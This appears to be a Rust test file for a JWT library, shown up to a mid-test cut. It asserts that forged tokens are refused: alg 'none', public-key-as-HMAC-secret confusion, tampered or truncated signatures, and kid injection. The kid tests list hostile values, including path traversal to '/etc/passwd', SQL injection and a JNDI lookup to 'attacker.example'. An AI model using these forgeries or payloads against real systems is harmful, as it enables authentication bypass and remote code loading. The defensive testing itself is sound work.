//! Known JWT attacks, each as a named test asserting the exact [`jwtx::Error`] variant (and the
//! flask-jwt-extended message where that library has a fixed text), through the public API.
//!
//! Hostile tokens are built by hand: hand-written JSON, base64url-encoded, signed with
//! aws-lc-rs directly (so a header jwtx would never emit still carries a genuine signature),
//! or with [`jws::sign`] when the header must be jwtx's own.

#![allow(clippy::unwrap_used, clippy::panic, missing_docs)]

use std::sync::{Arc, OnceLock};
use std::time::Duration;

use aws_lc_rs::hmac;
use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{self as sig, EcdsaKeyPair, Ed25519KeyPair};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jwtx::jws::{self, DEFAULT_MAX_TOKEN_LEN};
use jwtx::{
    Algorithm, Codec, Error, FixedClock, ForbiddenHeader, Key, KeyError, KeySet, NoClaims, Segment,
    TimeClaim, TokenKind, TokenType, Validation,
};

// =============================================================================== fixtures

const SECRET: &[u8] = b"attack-suite secret, 32 bytes!!!";
const OTHER_SECRET: &[u8] = b"another secret of 32 bytes, too!";
const NOW: u64 = 1_700_000_000;
const HS_HEADER: &str = r#"{"alg":"HS256","typ":"JWT"}"#;
/// P-256 group order n.
const P256_N: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn unb64(s: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(s).unwrap()
}

/// Valid registered claims at [`NOW`].
fn claims() -> String {
    format!(
        r#"{{"sub":"alice","iat":{NOW},"nbf":{NOW},"jti":"j1","exp":{}}}"#,
        NOW + 900
    )
}

fn hmac_alg(alg: Algorithm) -> hmac::Algorithm {
    match alg {
        Algorithm::HS384 => hmac::HMAC_SHA384,
        Algorithm::HS512 => hmac::HMAC_SHA512,
        _ => hmac::HMAC_SHA256,
    }
}

/// HMAC over `input` with any secret (also ones jwtx would refuse), base64url.
fn hmac_b64(alg: Algorithm, secret: &[u8], input: &[u8]) -> String {
    b64(hmac::sign(&hmac::Key::new(hmac_alg(alg), secret), input).as_ref())
}

/// A compact token from raw header and payload bytes, HMAC-signed with `secret`.
fn forge_with(alg: Algorithm, header: &[u8], payload: &[u8], secret: &[u8]) -> String {
    let input = format!("{}.{}", b64(header), b64(payload));
    let sig = hmac_b64(alg, secret, input.as_bytes());
    format!("{input}.{sig}")
}

/// An HS256 token with this header and payload text, signed with [`SECRET`].
fn hs(header: &str, payload: &str) -> String {
    forge_with(
        Algorithm::HS256,
        header.as_bytes(),
        payload.as_bytes(),
        SECRET,
    )
}

fn hs_key() -> Key {
    Key::hmac(Algorithm::HS256, SECRET).unwrap()
}

fn hs_set() -> KeySet {
    hs_key().into()
}

fn jws_err(token: &str, keys: &KeySet) -> Error {
    jws::verify(token, keys, DEFAULT_MAX_TOKEN_LEN)
        .map(|_| ())
        .unwrap_err()
}

fn jws_ok(token: &str, keys: &KeySet) {
    if let Err(e) = jws::verify(token, keys, DEFAULT_MAX_TOKEN_LEN) {
        panic!("expected {token} to verify, got {e:?}");
    }
}

fn codec() -> Codec {
    Codec::new(hs_key()).with_clock(Arc::new(FixedClock::new(NOW)))
}

/// Verifies an HS256 token with this payload through [`Codec::verify`].
fn claims_result(payload: &str) -> Result<jwtx::Verified<NoClaims>, Error> {
    codec().verify::<NoClaims>(&hs(HS_HEADER, payload))
}

fn claims_err(payload: &str) -> Error {
    claims_result(payload).unwrap_err()
}

fn parts(token: &str) -> [String; 3] {
    let v: Vec<&str> = token.split('.').collect();
    assert_eq!(v.len(), 3, "{token}");
    [v[0].to_owned(), v[1].to_owned(), v[2].to_owned()]
}

/// A signing key and a verifier holding only its public half (HMAC: the same secret).
struct Fixture {
    signer: Key,
    verifier: KeySet,
    public_pem: Option<String>,
}

impl Fixture {
    fn new(alg: Algorithm) -> Fixture {
        if alg.is_symmetric() {
            return Fixture {
                signer: hs_key(),
                verifier: hs_set(),
                public_pem: None,
            };
        }
        let signer = Key::generate(alg).unwrap();
        let pem = signer.to_public_pem().unwrap();
        let public = Key::from_pem(alg, pem.as_bytes()).unwrap();
        assert!(!public.can_sign());
        Fixture {
            signer,
            verifier: public.into(),
            public_pem: Some(pem),
        }
    }

    fn public_key(&self) -> &Key {
        &self.verifier.keys()[0]
    }

    /// A jwtx-signed token (jwtx's own header) with this payload.
    fn token(&self, payload: &str) -> String {
        jws::sign(&self.signer, payload.as_bytes(), None).unwrap()
    }
}

fn fixture(alg: Algorithm) -> &'static Fixture {
    static CELLS: [OnceLock<Fixture>; 5] = [const { OnceLock::new() }; 5];
    let i = match alg {
        Algorithm::HS256 => 0,
        Algorithm::RS256 => 1,
        Algorithm::PS256 => 2,
        Algorithm::ES256 => 3,
        Algorithm::EdDSA => 4,
        other => panic!("no fixture for {other}"),
    };
    CELLS[i].get_or_init(|| Fixture::new(alg))
}

const SIGNATURE_ALGS: [Algorithm; 5] = [
    Algorithm::HS256,
    Algorithm::RS256,
    Algorithm::PS256,
    Algorithm::ES256,
    Algorithm::EdDSA,
];

/// The DER inside a PEM block.
fn pem_der(pem: &str) -> Vec<u8> {
    let body: String = pem
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect::<String>();
    STANDARD.decode(body.trim()).unwrap()
}

/// ES256 signature (r‖s) over arbitrary input with a jwtx private key, via aws-lc-rs.
fn es256_sign(key: &Key, input: &[u8]) -> Vec<u8> {
    let der = pem_der(&key.to_pkcs8_pem().unwrap());
    let pair = EcdsaKeyPair::from_pkcs8(&sig::ECDSA_P256_SHA256_FIXED_SIGNING, &der).unwrap();
    pair.sign(&SystemRandom::new(), input)
        .unwrap()
        .as_ref()
        .to_vec()
}

/// Ed25519 signature over arbitrary input with a jwtx private key, via aws-lc-rs.
fn ed25519_sign(key: &Key, input: &[u8]) -> Vec<u8> {
    let der = pem_der(&key.to_pkcs8_pem().unwrap());
    let pair = Ed25519KeyPair::from_pkcs8_maybe_unchecked(&der).unwrap();
    pair.sign(input).as_ref().to_vec()
}

/// A signature over arbitrary input with a jwtx private key of any fixture algorithm.
fn sign_raw(key: &Key, input: &[u8]) -> Vec<u8> {
    match key.algorithm() {
        Algorithm::ES256 => es256_sign(key, input),
        Algorithm::EdDSA => ed25519_sign(key, input),
        alg @ (Algorithm::RS256 | Algorithm::PS256) => {
            let der = pem_der(&key.to_pkcs8_pem().unwrap());
            let pair = aws_lc_rs::signature::RsaKeyPair::from_pkcs8(&der).unwrap();
            let mut out = vec![0; pair.public_modulus_len()];
            let padding: &dyn sig::RsaEncoding = if alg == Algorithm::RS256 {
                &sig::RSA_PKCS1_SHA256
            } else {
                &sig::RSA_PSS_SHA256
            };
            pair.sign(padding, &SystemRandom::new(), input, &mut out)
                .unwrap();
            out
        }
        other => panic!("no raw signer for {other}"),
    }
}

/// A token with a hand-written header, signed by `key` over exactly what is sent.
fn signed(key: &Key, header: &str, payload: &str) -> String {
    let input = format!("{}.{}", b64(header.as_bytes()), b64(payload.as_bytes()));
    let sig = sign_raw(key, input.as_bytes());
    format!("{input}.{}", b64(&sig))
}

/// A public-only copy of a key (through its PEM), keeping its kid.
fn public_copy(key: &Key) -> Key {
    let k = Key::from_pem(key.algorithm(), key.to_public_pem().unwrap().as_bytes()).unwrap();
    match key.kid() {
        Some(kid) => k.with_kid(kid),
        None => k,
    }
}

/// DER `INTEGER` of a big-endian unsigned value.
fn der_int(v: &[u8]) -> Vec<u8> {
    let first = v.iter().position(|&b| b != 0).unwrap_or(v.len() - 1);
    let v = &v[first..];
    let mut out = vec![0x02];
    let pad = v[0] & 0x80 != 0;
    out.push((v.len() + usize::from(pad)) as u8);
    if pad {
        out.push(0);
    }
    out.extend_from_slice(v);
    out
}

/// `r‖s` → DER `ECDSA-Sig-Value`.
fn ecdsa_der(raw: &[u8]) -> Vec<u8> {
    let (r, s) = raw.split_at(raw.len() / 2);
    let body = [der_int(r), der_int(s)].concat();
    let mut out = vec![0x30, body.len() as u8];
    out.extend_from_slice(&body);
    out
}

const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// The same segment with one non-zero trailing bit set in its last character (decoders that
/// ignore trailing bits read the same bytes). `None` when the segment has no trailing bits.
fn with_trailing_bit(seg: &str) -> Option<String> {
    if !matches!(seg.len() % 4, 2 | 3) {
        return None;
    }
    let last = *seg.as_bytes().last().unwrap();
    let idx = ALPHABET.iter().position(|&c| c == last).unwrap();
    assert_eq!(idx & 1, 0, "canonical encodings have zero trailing bits");
    let mut s = seg[..seg.len() - 1].to_owned();
    s.push(char::from(ALPHABET[idx | 1]));
    // A lenient decoder reads the same bytes.
    assert_eq!(
        base64::engine::GeneralPurpose::new(
            &base64::alphabet::URL_SAFE,
            base64::engine::GeneralPurposeConfig::new()
                .with_decode_allow_trailing_bits(true)
                .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent)
        )
        .decode(&s)
        .unwrap(),
        unb64(seg)
    );
    Some(s)
}

// ================================================================================ alg none

mod alg_none {
    use super::*;

    const SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

    fn none_token(alg: &str, signature: &str) -> String {
        let header = format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#);
        format!(
            "{}.{}.{signature}",
            b64(header.as_bytes()),
            b64(claims().as_bytes())
        )
    }

    fn signatures(alg: &str) -> Vec<String> {
        let unsigned = none_token(alg, "");
        let input = unsigned.trim_end_matches('.');
        vec![
            String::new(),
            b64(b"x"),
            b64(&[0; 32]),
            // A genuine HS256 signature over the `none` header: still not allowed.
            hmac_b64(Algorithm::HS256, SECRET, input.as_bytes()),
        ]
    }

    #[test]
    fn every_spelling_with_empty_and_nonempty_signature_hmac_verifier() {
        for alg in SPELLINGS {
            for s in signatures(alg) {
                let t = none_token(alg, &s);
                let e = jws_err(&t, &hs_set());
                assert_eq!(
                    e,
                    Error::AlgorithmNotAllowed {
                        expected: Algorithm::HS256,
                        found: alg.into()
                    },
                    "{t}"
                );
                assert_eq!(e.message(), "The specified alg value is not allowed");
                assert_eq!(codec().verify::<NoClaims>(&t).unwrap_err(), e);
            }
        }
    }

    #[test]
    fn every_spelling_with_empty_and_nonempty_signature_asymmetric_verifiers() {
        for key_alg in [Algorithm::RS256, Algorithm::ES256, Algorithm::EdDSA] {
            let fx = fixture(key_alg);
            for alg in SPELLINGS {
                for s in signatures(alg) {
                    let t = none_token(alg, &s);
                    assert_eq!(
                        jws_err(&t, &fx.verifier),
                        Error::AlgorithmNotAllowed {
                            expected: key_alg,
                            found: alg.into()
                        }
                    );
                }
            }
        }
    }

    #[test]
    fn none_with_two_segments_is_malformed() {
        let t = none_token("none", "");
        let two = t.trim_end_matches('.');
        assert_eq!(jws_err(two, &hs_set()), Error::NotEnoughSegments);
        assert_eq!(jws_err(two, &hs_set()).message(), "Not enough segments");
    }

    #[test]
    fn none_with_kid_selecting_a_key_is_still_refused() {
        let keys = KeySet::new(vec![hs_key().with_kid("k1")]).unwrap();
        let header = r#"{"alg":"none","kid":"k1"}"#;
        let t = format!("{}.{}.", b64(header.as_bytes()), b64(claims().as_bytes()));
        assert_eq!(
            jws_err(&t, &keys),
            Error::AlgorithmNotAllowed {
                expected: Algorithm::HS256,
                found: "none".into()
            }
        );
    }

    #[test]
    fn missing_null_and_non_string_alg() {
        let e = jws_err(&hs(r#"{"typ":"JWT"}"#, &claims()), &hs_set());
        assert_eq!(e, Error::MissingAlgorithm);
        assert_eq!(e.message(), "Algorithm not specified");
        for v in ["null", "0", "true", r#"["HS256"]"#, r#"{"name":"HS256"}"#] {
            let t = hs(&format!(r#"{{"alg":{v}}}"#), &claims());
            assert_eq!(
                jws_err(&t, &hs_set()),
                Error::HeaderType { param: "alg" },
                "{v}"
            );
        }
    }

    #[test]
    fn alg_spelling_variants_of_the_right_algorithm_are_refused() {
        for alg in [
            "hs256",
            "Hs256",
            "HS256 ",
            " HS256",
            "HS256\u{0}",
            "HS2560",
            "HS",
        ] {
            let header = serde_json::json!({ "alg": alg }).to_string();
            let t = hs(&header, &claims());
            assert_eq!(
                jws_err(&t, &hs_set()),
                Error::AlgorithmNotAllowed {
                    expected: Algorithm::HS256,
                    found: alg.into()
                },
                "{alg:?}"
            );
        }
    }
}

// ====================================================================== algorithm confusion

mod confusion {
    use super::*;

    /// Every form of public key material an attacker can get hold of for `alg`'s fixture.
    fn public_materials(alg: Algorithm) -> Vec<(&'static str, Vec<u8>)> {
        let fx = fixture(alg);
        let pem = fx.public_pem.clone().unwrap();
        let jwk = fx.public_key().public_jwk().unwrap();
        let jwk_text = serde_json::to_string(&jwk).unwrap();
        let mut out = vec![
            ("PEM text", pem.clone().into_bytes()),
            (
                "PEM text without final newline",
                pem.trim_end().as_bytes().to_vec(),
            ),
            ("SPKI DER bytes", pem_der(&pem)),
            ("JWK JSON text", jwk_text.into_bytes()),
            (
                "JWKS JSON text",
                fx.verifier.jwks().to_string().into_bytes(),
            ),
        ];
        match alg {
            Algorithm::RS256 | Algorithm::PS256 => {
                out.push(("RSA modulus bytes", unb64(jwk.n.as_deref().unwrap())));
                out.push((
                    "RSA modulus (base64url text)",
                    jwk.n.clone().unwrap().into_bytes(),
                ));
            }
            Algorithm::ES256 => {
                let x = unb64(jwk.x.as_deref().unwrap());
                let y = unb64(jwk.y.as_deref().unwrap());
                out.push(("EC point 04‖x‖y", [&[4u8][..], &x, &y].concat()));
                out.push(("EC x‖y", [x, y].concat()));
            }
            _ => out.push(("Ed25519 public key bytes", unb64(jwk.x.as_deref().unwrap()))),
        }
        out
    }

    #[test]
    fn public_key_used_as_hmac_secret_is_refused() {
        let mut forged = 0;
        for alg in [
            Algorithm::RS256,
            Algorithm::PS256,
            Algorithm::ES256,
            Algorithm::EdDSA,
        ] {
            let fx = fixture(alg);
            let kid = fx.public_key().kid().unwrap().to_owned();
            for (what, secret) in public_materials(alg) {
                for hs_alg in [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512] {
                    for header in [
                        format!(r#"{{"alg":"{hs_alg}","typ":"JWT"}}"#),
                        format!(r#"{{"alg":"{hs_alg}","typ":"JWT","kid":"{kid}"}}"#),
                    ] {
                        let t = forge_with(hs_alg, header.as_bytes(), claims().as_bytes(), &secret);
                        let e = jws_err(&t, &fx.verifier);
                        assert_eq!(
                            e,
                            Error::AlgorithmNotAllowed {
                                expected: alg,
                                found: hs_alg.as_str().into()
                            },
                            "{alg} public key as {what}, {hs_alg}"
                        );
                        assert_eq!(e.message(), "The specified alg value is not allowed");
                        // The same through the claims layer.
                        let codec = Codec::new(fx.verifier.clone())
                            .with_clock(Arc::new(FixedClock::new(NOW)));
                        assert_eq!(codec.verify::<NoClaims>(&t).unwrap_err(), e);
                        // The forgery is genuine: a verifier that (wrongly) used the material
                        // as an HMAC secret would accept it.
                        if hs_alg == Algorithm::HS256
                            && secret.len() >= 32
                            && !header.contains("kid")
                        {
                            let naive: KeySet =
                                Key::hmac(Algorithm::HS256, &secret).unwrap().into();
                            jws_ok(&t, &naive);
                            forged += 1;
                        }
                    }
                }
            }
        }
        assert!(
            forged >= 20,
            "only {forged} forgeries were checked as genuine"
        );
    }

    #[test]
    fn asymmetric_token_presented_to_hmac_verifier() {
        for alg in [
            Algorithm::RS256,
            Algorithm::PS256,
            Algorithm::ES256,
            Algorithm::EdDSA,
        ] {
            let fx = fixture(alg);
            // Without kid the only key is selected and its algorithm decides.
            let header = format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#);
            let t = signed(&fx.signer, &header, &claims());
            jws_ok(&t, &fx.verifier);
            assert_eq!(
                jws_err(&t, &hs_set()),
                Error::AlgorithmNotAllowed {
                    expected: Algorithm::HS256,
                    found: alg.as_str().into()
                }
            );
            // jwtx's own header names the key's kid; the HMAC set's one kid-less key is chosen
            // whatever the kid (as flask-jwt-extended does) and its algorithm refuses the token.
            let t = fx.token(&claims());
            assert_eq!(
                jws_err(&t, &hs_set()),
                Error::AlgorithmNotAllowed {
                    expected: Algorithm::HS256,
                    found: alg.as_str().into()
                }
            );
        }
    }

    #[test]
    fn cross_asymmetric_algorithms_are_refused() {
        // An RS256 token relabelled PS256 (same key) and the reverse.
        let rs = fixture(Algorithm::RS256);
        let der = pem_der(&rs.signer.to_pkcs8_pem().unwrap());
        let ps_key = Key::from_der(Algorithm::PS256, &der).unwrap();
        let t = jws::sign(&ps_key, claims().as_bytes(), None).unwrap();
        assert_eq!(
            jws_err(&t, &rs.verifier),
            Error::AlgorithmNotAllowed {
                expected: Algorithm::RS256,
                found: "PS256".into()
            }
        );
        let t = rs.token(&claims());
        let ps_public: KeySet =
            Key::from_pem(Algorithm::PS256, rs.public_pem.as_ref().unwrap().as_bytes())
                .unwrap()
                .into();
        assert_eq!(
            jws_err(&t, &ps_public),
            Error::AlgorithmNotAllowed {
                expected: Algorithm::PS256,
                found: "RS256".into()
            }
        );
        // Same key, header says RS384: refused, the key is bound to RS256.
        let header = format!(
            r#"{{"alg":"RS384","kid":"{}"}}"#,
            rs.public_key().kid().unwrap()
        );
        let t = format!(
            "{}.{}.{}",
            b64(header.as_bytes()),
            b64(b"{}"),
            b64(&[1; 256])
        );
        assert_eq!(
            jws_err(&t, &rs.verifier),
            Error::AlgorithmNotAllowed {
                expected: Algorithm::RS256,
                found: "RS384".into()
            }
        );
    }

    #[test]
    fn key_material_cannot_be_loaded_for_the_wrong_family() {
        let rs = fixture(Algorithm::RS256);
        let pem = rs.public_pem.as_ref().unwrap();
        assert!(matches!(
            Key::hmac(Algorithm::RS256, pem.as_bytes()),
            Err(KeyError::WrongKeyType { .. })
        ));
        assert!(matches!(
            Key::from_pem(Algorithm::HS256, pem.as_bytes()),
            Err(KeyError::WrongKeyType { .. })
        ));
        let jwk = rs.public_key().public_jwk().unwrap();
        let as_hs = format!(
            r#"{{"kty":"RSA","alg":"HS256","n":"{}","e":"{}"}}"#,
            jwk.n.as_deref().unwrap(),
            jwk.e.as_deref().unwrap()
        );
        assert!(matches!(
            KeySet::from_jwks_json(&as_hs),
            Err(KeyError::WrongKeyType { .. })
        ));
        let oct_as_rs = format!(r#"{{"kty":"oct","alg":"RS256","k":"{}"}}"#, b64(SECRET));
        assert!(matches!(
            KeySet::from_jwks_json(&oct_as_rs),
            Err(KeyError::WrongKeyType { .. })
        ));
        // An oct JWK without alg does not imply HS256.
        let oct = format!(r#"{{"kty":"oct","k":"{}"}}"#, b64(SECRET));
        assert_eq!(
            KeySet::from_jwks_json(&oct).unwrap_err(),
            KeyError::MissingAlgorithm
        );
        // A key set cannot mix an HMAC secret with public keys.
        assert_eq!(
            KeySet::new(vec![
                hs_key(),
                Key::from_pem(Algorithm::RS256, pem.as_bytes()).unwrap()
            ])
            .unwrap_err(),
            KeyError::MixedKeySet
        );
        // EC keys of one curve cannot be loaded for the other.
        let es = fixture(Algorithm::ES256);
        assert!(matches!(
            Key::from_pem(Algorithm::ES384, es.public_pem.as_ref().unwrap().as_bytes()),
            Err(KeyError::WrongKeyType { .. })
        ));
    }
}

// ===================================================================== signature tampering

mod signature {
    use super::*;

    #[test]
    fn stripped_signature() {
        for alg in SIGNATURE_ALGS {
            let fx = fixture(alg);
            let [h, p, _] = parts(&fx.token(&claims()));
            let e = jws_err(&format!("{h}.{p}."), &fx.verifier);
            assert_eq!(e, Error::InvalidSignature, "{alg}");
            assert_eq!(e.message(), "Signature verification failed");
            assert_eq!(
                jws_err(&format!("{h}.{p}"), &fx.verifier),
                Error::NotEnoughSegments
            );
        }
    }

    #[test]
    fn truncated_signature_every_byte_length() {
        for alg in SIGNATURE_ALGS {
            let fx = fixture(alg);
            let t = fx.token(&claims());
            jws_ok(&t, &fx.verifier);
            let [h, p, s] = parts(&t);
            let raw = unb64(&s);
            for n in 0..raw.len() {
                let t = format!("{h}.{p}.{}", b64(&raw[..n]));
                assert_eq!(
                    jws_err(&t, &fx.verifier),
                    Error::InvalidSignature,
                    "{alg} {n}"
                );
            }
            // Extended by a byte, too.
            let t = format!("{h}.{p}.{}", b64(&[&raw[..], &[0]].concat()));
            assert_eq!(
                jws_err(&t, &fx.verifier),
                Error::InvalidSignature,
                "{alg} +1"
            );
        }
    }

    #[test]
    fn truncated_signature_every_character_length() {
        for alg in SIGNATURE_ALGS {
            let fx = fixture(alg);
            let [h, p, s] = parts(&fx.token(&claims()));
            for n in 0..s.len() {
                let t = format!("{h}.{p}.{}", &s[..n]);
                let e = jws_err(&t, &fx.verifier);
                assert!(
                    matches!(
                        e,
                        Error::InvalidSignature
                            | Error::Base64 {
                                segment: Segment::Signature
                            }
                    ),
                    "{alg} {n}: {e:?}"
                );
                if n % 4 == 1 {
                    assert_eq!(e.message(), "Invalid crypto padding");
                }
            }
        }
    }

    #[test]
    fn all_zero_signatures() {
        for alg in SIGNATURE_ALGS {
            let fx = fixture(alg);
            let [h, p, s] = parts(&fx.token(&claims()));
            let len = unb64(&s).len();
            let t = format!("{h}.{p}.{}", b64(&vec![0; len]));
            assert_eq!(jws_err(&t, &fx.verifier), Error::InvalidSignature, "{alg}");
        }
    }

    #[test]
    fn ecdsa_out_of_range_r_and_s() {
        let fx = fixture(Algorithm::ES256);
        let [h, p, s] = parts(&fx.token(&claims()));
        let raw = unb64(&s);
        let (r, s_) = raw.split_at(32);
        let mut one = [0u8; 32];
        one[31] = 1;
        let mut n_minus_1 = P256_N;
        n_minus_1[31] -= 1;
        for (what, sig) in [
            ("r=s=0", [[0u8; 32], [0u8; 32]].concat()),
            ("r=0", [&[0u8; 32][..], s_].concat()),
            ("s=0", [r, &[0u8; 32][..]].concat()),
            ("r=s=n", [P256_N, P256_N].concat()),
            ("r=n", [&P256_N[..], s_].concat()),
            ("s=n", [r, &P256_N[..]].concat()),
            ("r=s=1", [one, one].concat()),
            ("r=s=n-1", [n_minus_1, n_minus_1].concat()),
            ("r=s=2^256-1", vec![0xff; 64]),
            ("r=n+1", {
                let mut n1 = P256_N;
                n1[31] += 1;
                [&n1[..], s_].concat()
            }),
        ] {
            let t = format!("{h}.{p}.{}", b64(&sig));
            assert_eq!(jws_err(&t, &fx.verifier), Error::InvalidSignature, "{what}");
        }
    }

    #[test]
    fn der_encoded_ecdsa_signature_is_refused() {
        let fx = fixture(Algorithm::ES256);
        let t = fx.token(&claims());
        jws_ok(&t, &fx.verifier);
        let [h, p, s] = parts(&t);
        let der = ecdsa_der(&unb64(&s));
        assert_eq!(der[0], 0x30);
        let t = format!("{h}.{p}.{}", b64(&der));
        assert_eq!(jws_err(&t, &fx.verifier), Error::InvalidSignature);
    }

    #[test]
    fn signature_of_another_token() {
        for alg in SIGNATURE_ALGS {
            let fx = fixture(alg);
            let a = fx.token(&claims());
            let b = fx.token(r#"{"sub":"admin","exp":99999999999}"#);
            let [ha, pa, _] = parts(&a);
            let [_, _, sb] = parts(&b);
            let t = format!("{ha}.{pa}.{sb}");
            assert_eq!(jws_err(&t, &fx.verifier), Error::InvalidSignature, "{alg}");
        }
    }

    #[test]
    fn signature_by_another_key_of_the_same_algorithm() {
        for alg in [Algorithm::RS256, Algorithm::ES256, Algorithm::EdDSA] {
            let fx = fixture(alg);
            let other = Key::generate(alg)
                .unwrap()
                .with_kid(fx.public_key().kid().unwrap());
            let t = jws::sign(&other, claims().as_bytes(), None).unwrap();
            // Same header bytes (same kid), different key: the canonical-header fast path
            // must not shortcut the signature.
            assert_eq!(parts(&t)[0], parts(&fx.token(&claims()))[0]);
            assert_eq!(jws_err(&t, &fx.verifier), Error::InvalidSignature, "{alg}");
        }
        let other: KeySet = Key::hmac(Algorithm::HS256, OTHER_SECRET).unwrap().into();
        assert_eq!(
            jws_err(&fixture(Algorithm::HS256).token(&claims()), &other),
            Error::InvalidSignature
        );
    }

    #[test]
    fn bad_signature_wins_over_expiry() {
        // flask-jwt-extended: "Signature verification failed" takes precedence over expiry.
        let expired = format!(r#"{{"sub":"alice","exp":{}}}"#, NOW - 10);
        let t = forge_with(
            Algorithm::HS256,
            HS_HEADER.as_bytes(),
            expired.as_bytes(),
            OTHER_SECRET,
        );
        let e = codec().verify::<NoClaims>(&t).unwrap_err();
        assert_eq!(e, Error::InvalidSignature);
    }

    #[test]
    fn edits_to_header_or_payload_break_the_signature() {
        let fx = fixture(Algorithm::ES256);
        let [h, _, s] = parts(&fx.token(&claims()));
        let admin = claims().replace("alice", "admin");
        let t = format!("{h}.{}.{s}", b64(admin.as_bytes()));
        assert_eq!(jws_err(&t, &fx.verifier), Error::InvalidSignature);
        // A different but equivalent header (spaces) with the original signature.
        let kid = fx.public_key().kid().unwrap();
        let header = format!(r#"{{ "alg":"ES256","kid":"{kid}","typ":"JWT"}}"#);
        let [_, p, s] = parts(&fx.token(&claims()));
        let t = format!("{}.{p}.{s}", b64(header.as_bytes()));
        assert_eq!(jws_err(&t, &fx.verifier), Error::InvalidSignature);
    }

    #[test]
    fn ed25519_signature_over_a_hand_made_header_verifies_only_with_its_key() {
        // Sanity for the hand-made signing helpers used elsewhere in this file.
        let fx = fixture(Algorithm::EdDSA);
        let header = format!(
            r#"{{"alg":"EdDSA","kid":"{}"}}"#,
            fx.public_key().kid().unwrap()
        );
        let input = format!("{}.{}", b64(header.as_bytes()), b64(claims().as_bytes()));
        let t = format!(
            "{input}.{}",
            b64(&ed25519_sign(&fx.signer, input.as_bytes()))
        );
        jws_ok(&t, &fx.verifier);
        let es = fixture(Algorithm::ES256);
        let header = format!(
            r#"{{"alg":"ES256","kid":"{}"}}"#,
            es.public_key().kid().unwrap()
        );
        let input = format!("{}.{}", b64(header.as_bytes()), b64(claims().as_bytes()));
        let t = format!("{input}.{}", b64(&es256_sign(&es.signer, input.as_bytes())));
        jws_ok(&t, &es.verifier);
    }
}

// ============================================================================ kid injection

mod kid {
    use super::*;

    fn two_hs_keys() -> KeySet {
        KeySet::new(vec![
            hs_key().with_kid("k1"),
            Key::hmac(Algorithm::HS256, OTHER_SECRET)
                .unwrap()
                .with_kid("k2"),
        ])
        .unwrap()
    }

    fn with_kid(kid: &str) -> String {
        let header = serde_json::json!({ "alg": "HS256", "typ": "JWT", "kid": kid }).to_string();
        hs(&header, &claims())
    }

    #[test]
    fn sanity_the_right_kid_verifies() {
        jws_ok(&with_kid("k1"), &two_hs_keys());
        assert_eq!(
            jws_err(&with_kid("k2"), &two_hs_keys()),
            Error::InvalidSignature
        );
    }

    #[test]
    fn path_traversal_sql_and_other_injections_select_nothing() {
        for kid in [
            "../../etc/passwd",
            "/dev/null",
            "../../../../../../dev/null",
            "' OR '1'='1",
            "k1' --",
            "k1\"; DROP TABLE keys; --",
            "k1\u{0}",
            "K1",
            " k1",
            "k1 ",
            "",
            "*",
            "%",
            "${jndi:ldap://attacker.example/a}",
            "k1|k2",
        ] {
            let e = jws_err(&with_kid(kid), &two_hs_keys());
            assert_eq!(
                e,
                Error::UnknownKey {
                    kid: Some(kid.into())
                },
                "{kid:?}"
            );
            assert_eq!(e.message(), "No key matches the token's key ID");
        }
        // A single-key set does not fall back to its only key when the kid names another.
        let single = KeySet::new(vec![hs_key().with_kid("k1")]).unwrap();
        assert_eq!(
            jws_err(&with_kid("../../etc/passwd"), &single),
            Error::UnknownKey {
                kid: Some("../../etc/passwd".into())
            }
        );
    }

    #[test]
    fn ten_kilobyte_kid() {
        let kid = "A".repeat(10 * 1024);
        let t = with_kid(&kid);
        // Over the default cap: refused before any decoding.
        assert_eq!(
            jws_err(&t, &two_hs_keys()),
            Error::TooLarge {
                len: t.len(),
                max: DEFAULT_MAX_TOKEN_LEN
            }
        );
        // Under a larger cap: an unknown kid, reported cut to 64 characters.
        let e = jws::verify(&t, &two_hs_keys(), 1 << 20).unwrap_err();
        assert_eq!(
            e,
            Error::UnknownKey {
                kid: Some("A".repeat(64))
            }
        );
        assert!(e.to_string().len() < 200);
    }

    #[test]
    fn non_string_kid() {
        for v in ["1", "null", "true", r#"["k1"]"#, r#"{"k":"k1"}"#, "1.5"] {
            let t = hs(&format!(r#"{{"alg":"HS256","kid":{v}}}"#), &claims());
            for keys in [two_hs_keys(), hs_set()] {
                let e = jws_err(&t, &keys);
                assert_eq!(e, Error::HeaderType { param: "kid" }, "{v}");
                assert_eq!(e.message(), "Key ID header parameter must be a string");
            }
        }
    }

    #[test]
    fn kid_of_another_key_with_another_algorithm() {
        // HMAC: k2 is an HS512 key; an HS256 token naming k2 is refused on the algorithm.
        let keys = KeySet::new(vec![
            hs_key().with_kid("k1"),
            Key::hmac(Algorithm::HS512, &[7; 64])
                .unwrap()
                .with_kid("k2"),
        ])
        .unwrap();
        jws_ok(&with_kid("k1"), &keys);
        assert_eq!(
            jws_err(&with_kid("k2"), &keys),
            Error::AlgorithmNotAllowed {
                expected: Algorithm::HS512,
                found: "HS256".into()
            }
        );
        // Asymmetric: an ES256 token whose kid names the EdDSA key of the set.
        let es = fixture(Algorithm::ES256);
        let ed = fixture(Algorithm::EdDSA);
        let set = KeySet::new(vec![
            public_copy(es.public_key()),
            public_copy(ed.public_key()),
        ])
        .unwrap();
        let ed_kid = ed.public_key().kid().unwrap();
        let header = format!(r#"{{"alg":"ES256","kid":"{ed_kid}"}}"#);
        let input = format!("{}.{}", b64(header.as_bytes()), b64(claims().as_bytes()));
        let t = format!("{input}.{}", b64(&es256_sign(&es.signer, input.as_bytes())));
        assert_eq!(
            jws_err(&t, &set),
            Error::AlgorithmNotAllowed {
                expected: Algorithm::EdDSA,
